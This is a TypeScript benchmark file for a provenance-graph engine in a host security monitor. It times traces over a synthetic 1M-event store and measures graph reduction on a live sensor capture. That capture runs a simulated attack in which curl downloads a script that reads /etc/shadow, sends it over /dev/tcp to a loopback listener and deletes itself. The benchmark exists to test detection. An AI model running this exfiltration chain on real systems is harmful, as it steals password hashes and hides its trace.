/**
 * Provenance graph benches (issue 6).
 *
 * 1. A trace over 1M events in the local store: the engine's synthetic workload (a package install, a web server,
 *    daemons, one attack chain) scaled to ~1M documents, written once per bench run through LocalStore into a temp
 *    directory. Baseline: what a trace would cost without the index (read and parse every event of the store).
 *    Cases: traces through LocalStoreSource, and the same backward trace over MemorySource with the events already
 *    in memory. Every measurement checks the attack path is intact (the bench fails otherwise).
 * 2. Reduction on a real capture (root + BTF only): the real sensor runs while `npm ci --offline` installs this
 *    repository's dependencies into a temp copy and, at the same time, the attack chain of the kernel test runs
 *    (curl fetches a script from a loopback HTTP server, chmod +x, runs it; it reads /etc/shadow, sends it to a
 *    loopback listener, deletes itself). Figures are "x fewer edges" (unreduced edges / reduced edges); the
 *    unreduced graph is the baseline (1x). The attack path must survive reduction (the bench fails otherwise).
 */
import { chmodSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, openSync, readdirSync, readSync, closeSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import type { EcsEvent } from '../kibana-plugin/common/ecs.ts';
import { MemorySource, syntheticWorkload, traceGraph, type ProvenanceGraph, type Workload } from '../kibana-plugin/common/graph/index.ts';
import { LocalStore } from '../sensor/src/output/local/local-store.ts';
import { LocalStoreSource } from '../sensor/src/graph/local-source.ts';
import { startSensor, type RunningSensor } from '../test/support/sensor.ts';
import { HTTP_SERVER_PY, LISTENER_PY, readFirstLine, within } from '../test/support/scenario.ts';
import type { Benchmark } from './harness.ts';

const ROOT = resolve(import.meta.dir, '..');

// ---------------------------------------------------------------------------------------------------------------
// 1. A trace over 1M events
// ---------------------------------------------------------------------------------------------------------------

/** ~126 events per package with these settings: 7 950 packages ≈ 1M events. */
const PACKAGES = 7950;

/** The engine's synthetic workload at ~1M events, written through LocalStore into a new temp directory. */
export function writeMillionEventStore(prefix: string): { dir: string; workload: Workload } {
  return writeSyntheticStore(prefix, PACKAGES);
}

/** The synthetic workload with `packages` packages (~126 events each), written through LocalStore. */
export function writeSyntheticStore(prefix: string, packages: number): { dir: string; workload: Workload } {
  const dir = mkdtempSync(join(tmpdir(), prefix));
  const workload = syntheticWorkload({ seed: 1, packages, filesPerPackage: 25, requests: packages });
  const store = new LocalStore({ dir });
  for (const e of workload.events) store.write(e);
  store.close();
  return { dir, workload };
}

let big: { dir: string; workload: Workload; source: LocalStoreSource; memory: MemorySource; files: string[] } | undefined;

function chainIntact(g: ProvenanceGraph, w: Workload, direction: 'backward' | 'forward'): void {
  const a = w.attack!;
  const has = (kind: string, source: (id: string) => boolean, target: (id: string) => boolean) =>
    g.edges.some((e) => e.kind === kind && e.attack_path && source(e.source) && target(e.target));
  const proc = (p: { entityId: string }) => (id: string) => id === `process:${p.entityId}`;
  const file = (path: string) => (id: string) => id.endsWith(`:${path}`) && id.startsWith('file:');
  const endpoint = (id: string) => id.startsWith('endpoint:') && id.endsWith(`:${a.exfilEndpoint.ip}:${a.exfilEndpoint.port}`);
  const missing: string[] = [];
  if (direction === 'backward' && !has('write', proc(a.downloader), file(a.dropped))) missing.push('downloader writes the script');
  if (!has('exec', file(a.dropped), proc(a.payload))) missing.push('the script is executed');
  if (direction === 'backward' && !has('read', file(a.secret), proc(a.payload))) missing.push('the secret is read');
  if (!has('connect', proc(a.payload), endpoint)) missing.push('the listener is connected to');
  if (missing.length) throw new Error(`attack path broken (${direction}): ${missing.join(', ')}`);
}

async function timedTrace(poi: string, direction: 'backward' | 'forward', check: boolean, source?: MemorySource): Promise<number> {
  const b = big!;
  const start = Bun.nanoseconds();
  const g = await traceGraph(source ?? b.source, { poi, direction });
  const ms = (Bun.nanoseconds() - start) / 1e6;
  if (check) chainIntact(g, b.workload, direction);
  return ms;
}

/** Reads and parses every line of the store: the cost of answering one trace by loading everything. */
function fullScan(files: string[]): number {
  const start = Bun.nanoseconds();
  let n = 0;
  const buf = new Uint8Array(8 << 20);
  const decoder = new TextDecoder();
  for (const path of files) {
    const fd = openSync(path, 'r');
    let carry = '';
    for (;;) {
      const got = readSync(fd, buf, 0, buf.length, null);
      if (got === 0) break;
      const text = carry + decoder.decode(buf.subarray(0, got));
      const lines = text.split('\n');
      carry = lines.pop()!;
      for (const line of lines) if (line && (JSON.parse(line) as EcsEvent).event) n++;
    }
    closeSync(fd);
  }
  if (n < 900_000) throw new Error(`full scan read ${n} events`);
  return (Bun.nanoseconds() - start) / 1e6;
}

export const graphTrace1M: Benchmark = {
  name: 'graph trace over 1M events (local store)',
  unit: 'ms',
  better: 'lower',
  rounds: 3,
  setup: async () => {
    const { dir, workload } = writeMillionEventStore('provmon-bench-graph-');
    const source = LocalStoreSource.open(dir);
    const files = readdirSync(dir)
      .filter((f) => f.startsWith('forensic-events') && f.endsWith('.jsonl'))
      .map((f) => join(dir, f));
    big = { dir, workload, source, memory: new MemorySource(workload.events), files };
    // The figures in the note: what the main trace reads.
    source.counters.queries = 0;
    source.counters.returned = 0;
    const g = await traceGraph(source, { poi: exfilPoi(), direction: 'backward' });
    chainIntact(g, workload, 'backward');
    graphTrace1M.note =
      `${source.info().events.toLocaleString('en')} events in the store; the backward trace from the exfiltration endpoint reads ` +
      `${source.counters.returned} events in ${source.counters.queries} queries (${g.stats.edges_before} edges → ${g.stats.edges} reduced), ` +
      `attack path intact in every measured trace (write → exec → read /etc/shadow → connect); target ≤ 1000 ms`;
  },
  teardown: () => {
    big?.source.close();
    if (big) rmSync(big.dir, { recursive: true, force: true });
    big = undefined;
  },
  baseline: { label: 'no index: read + parse every event of the store', measure: () => fullScan(big!.files) },
  cases: [
    { label: 'backward from the exfiltration endpoint (LocalStoreSource)', measure: () => timedTrace(exfilPoi(), 'backward', true) },
    { label: 'forward from the dropped script (LocalStoreSource)', measure: () => timedTrace(`file:${big!.workload.attack!.dropped}`, 'forward', true) },
    {
      label: "backward from npm's last write, ~63k events read (LocalStoreSource)",
      measure: () => timedTrace('file:/home/dev/proj/node_modules/.package-lock.json', 'backward', false),
    },
    { label: 'backward from the exfiltration endpoint (MemorySource, 1M preloaded)', measure: () => timedTrace(exfilPoi(), 'backward', true, big!.memory) },
  ],
};

function exfilPoi(): string {
  const a = big!.workload.attack!;
  return `ip:${a.exfilEndpoint.ip}:${a.exfilEndpoint.port}`;
}

// ---------------------------------------------------------------------------------------------------------------
// 2. Reduction on a real capture
// ---------------------------------------------------------------------------------------------------------------

const canCapture = process.getuid?.() === 0 && existsSync('/sys/kernel/btf/vmlinux') && !!Bun.which('npm') && !!Bun.which('curl') && !!Bun.which('python3');

interface Capture {
  root: string;
  eventsDir: string;
  shellEntity: string;
  dropped: string;
  listenerPort: number;
  events: number;
  lost: number;
}

let capture: Capture | undefined;

/** Sensor on; `npm ci --offline` in a temp copy of this repository's manifest, the attack beside it; sensor off. */
async function captureRealWorkload(): Promise<Capture> {
  const root = mkdtempSync(join(tmpdir(), 'provmon-bench-capture-'));
  chmodSync(root, 0o755);
  const proj = join(root, 'proj');
  mkdirSync(proj);
  copyFileSync(join(ROOT, 'package.json'), join(proj, 'package.json'));
  copyFileSync(join(ROOT, 'package-lock.json'), join(proj, 'package-lock.json'));
  mkdirSync(join(root, 'srv'));
  mkdirSync(join(root, 'dl'));
  const dropped = join(root, 'dl', 'update.sh');
  const env = { ...Object.fromEntries(Object.entries(process.env).filter(([k]) => !k.startsWith('PROVMON_'))), PROVMON_CONFIG: '' };
  const listener = Bun.spawn(['python3', '-c', LISTENER_PY], { stdout: 'pipe', stderr: 'ignore', env });
  const http = Bun.spawn(['python3', '-c', HTTP_SERVER_PY, join(root, 'srv')], { stdout: 'pipe', stderr: 'ignore', env });
  let sensor: RunningSensor | undefined;
  try {
    const listenerPort = Number(await readFirstLine(listener));
    const httpPort = Number(await readFirstLine(http));
    writeFileSync(
      join(root, 'srv', 'update.sh'),
      ['#!/bin/bash', "read -r -d '' loot < /etc/shadow", `exec 3<>/dev/tcp/127.0.0.1/${listenerPort}`, 'printf "%s" "$loot" >&3', 'exec 3>&-', 'rm -f "$0"', ''].join('\n'),
    );
    const script = join(root, 'workload.sh');
    writeFileSync(
      script,
      [
        `cd ${proj}`,
        'npm ci --offline --ignore-scripts --no-audit --no-fund --loglevel=error >/dev/null 2>&1 &',
        'npm_pid=$!',
        `curl -s -o ${dropped} http://127.0.0.1:${httpPort}/update.sh && chmod +x ${dropped} && ${dropped}`,
        'wait $npm_pid',
        '',
      ].join('\n'),
    );
    sensor = await startSensor({ args: ['--duration', '300'] });
    const run = Bun.spawn(['bash', script], { cwd: root, env, stdout: 'ignore', stderr: 'ignore' });
    const code = await within(run.exited, 240_000, 'timeout');
    if (code !== 0) {
      run.kill('SIGKILL');
      throw new Error(`the npm ci + attack workload ended with ${code}`);
    }
    await Bun.sleep(300);
    const summary = await sensor.stop();
    const eventsDir = sensor.eventsDir;
    sensor = undefined;
    const source = LocalStoreSource.open(eventsDir);
    const shell = source.lineageEvents(1_000_000).find((e) => e.event.action === 'exec' && e.process?.args?.includes(script));
    const events = source.info().events;
    source.close();
    if (!shell) throw new Error('the workload shell is not in the capture');
    return { root, eventsDir, shellEntity: shell.process!.entity_id, dropped, listenerPort, events, lost: summary.kernelLost + summary.kernelDropped };
  } finally {
    if (sensor) await sensor.stop().catch(() => undefined);
    for (const p of [listener, http]) {
      p.kill('SIGKILL');
      await p.exited;
    }
  }
}

function realChainIntact(g: ProvenanceGraph, c: Capture, direction: 'backward' | 'forward'): void {
  const byId = new Map(g.nodes.map((n) => [n.id, n] as const));
  const file = g.nodes.find((n) => n.kind === 'file' && n.path === c.dropped);
  const endpoint = g.nodes.find((n) => n.kind === 'endpoint' && n.ip === '127.0.0.1' && n.port === c.listenerPort);
  const exec = file && g.edges.find((e) => e.kind === 'exec' && e.source === file.id && e.attack_path);
  const write = file && g.edges.find((e) => e.kind === 'write' && e.target === file.id && byId.get(e.source)?.executable === '/usr/bin/curl' && e.attack_path);
  const connect = exec && endpoint && g.edges.find((e) => e.kind === 'connect' && e.source === exec.target && e.target === endpoint.id && e.attack_path);
  const shadow = g.nodes.find((n) => n.path === '/etc/shadow');
  const read = exec && shadow && g.edges.find((e) => e.kind === 'read' && e.source === shadow.id && e.target === exec.target && e.attack_path);
  const missing = [!write && 'curl writes the script', !exec && 'the script is executed', direction === 'backward' && !read && 'the secret is read', !connect && 'the listener is connected to'].filter(Boolean);
  if (missing.length) throw new Error(`attack path broken in the real capture (${direction}): ${missing.join(', ')}`);
}

async function reductionOf(poi: () => string, direction: 'backward' | 'forward', label: string): Promise<number> {
  const c = capture!;
  const source = LocalStoreSource.open(c.eventsDir);
  try {
    // A node budget above the install's ~6 200 files: the whole install is in the graph, nothing cut.
    const opts = { poi: poi(), direction, maxNodes: 100_000 };
    const raw = await traceGraph(source, { ...opts, reduce: false });
    const g = await traceGraph(source, opts);
    if (Object.keys(g.truncated).length) throw new Error(`${label}: the graph was cut (${JSON.stringify(g.truncated)})`);
    realChainIntact(raw, c, direction);
    realChainIntact(g, c, direction);
    figures.set(label, `${label}: ${g.stats.edges_before} → ${g.stats.edges} edges, ${g.stats.nodes_before} → ${g.stats.nodes} nodes, ${g.stats.events} events read`);
    graphReductionReal.note =
      `${c.events.toLocaleString('en')} events captured (sensor lost ${c.lost}); ${[...figures.values()].join('; ')}; ` +
      'attack path intact reduced and unreduced (curl writes the script → exec → [read /etc/shadow] → connect); target ≥ 5x';
    return g.stats.edges_before / g.stats.edges;
  } finally {
    source.close();
  }
}

const figures = new Map<string, string>();

export const graphReductionReal: Benchmark = {
  name: 'graph reduction on a real capture (sensor during npm ci --offline + the attack chain)',
  unit: 'x fewer edges',
  better: 'higher',
  rounds: 1,
  setup: async () => {
    capture = await captureRealWorkload();
  },
  teardown: () => {
    if (capture) {
      rmSync(capture.root, { recursive: true, force: true });
      rmSync(capture.eventsDir, { recursive: true, force: true });
    }
    capture = undefined;
  },
  baseline: { label: 'unreduced (one edge per observed event)', measure: () => 1 },
  cases: [
    {
      label: 'forward from the shell running npm ci and the attack',
      measure: () => reductionOf(() => `process:${capture!.shellEntity}`, 'forward', 'forward from the shell'),
    },
    {
      label: 'backward from the exfiltration endpoint',
      measure: () => reductionOf(() => `ip:127.0.0.1:${capture!.listenerPort}`, 'backward', 'backward from the listener'),
    },
  ],
};

export const GRAPH_BENCHMARKS: Benchmark[] = canCapture ? [graphTrace1M, graphReductionReal] : [graphTrace1M];
